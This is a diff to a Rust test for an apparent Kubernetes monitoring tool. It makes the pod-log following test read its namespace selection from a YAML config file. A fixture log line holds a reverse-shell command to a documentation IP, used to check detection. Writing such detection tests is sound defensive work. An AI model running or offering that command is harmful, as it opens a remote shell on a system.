@@ -1452,7 +1452,7 @@ fn kubernetes_events_are_watched_and_matched() {
     promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
 }
 
-/// `--pod-logs-namespace`: the running pods' containers are followed; a line printing a token
+/// `monitor.podLogs` (or `--pod-logs-namespace`): the running pods' containers are followed; a line printing a token
 /// alerts (named, never shown); a stream that ends (a restart) is followed again from its last
 /// line without repeating any.
 #[test]
@@ -1492,7 +1492,15 @@ fn pod_logs_are_followed_across_a_cut() {
         "2026-11-30T10:00:01.300000000Z",
         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     );
-    let (_dir, m) = start_watching(&api, &["--pod-logs-namespace", "shop"]);
+    // The selection from the configuration (`--pod-logs-namespace shop` says the same).
+    let conf = tempfile::tempdir().unwrap();
+    let config = conf.path().join("kubevigil.yaml");
+    std::fs::write(
+        &config,
+        "monitor:\n  podLogs:\n    namespaces: [shop]\n    maxStreams: 5\n",
+    )
+    .unwrap();
+    let (_dir, m) = start_watching(&api, &["--config", config.to_str().unwrap()]);
     let first = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
     assert_eq!(first["name"], "pod_log_credential", "{first}");
     assert_eq!(first["action"]["namespace"], "shop");
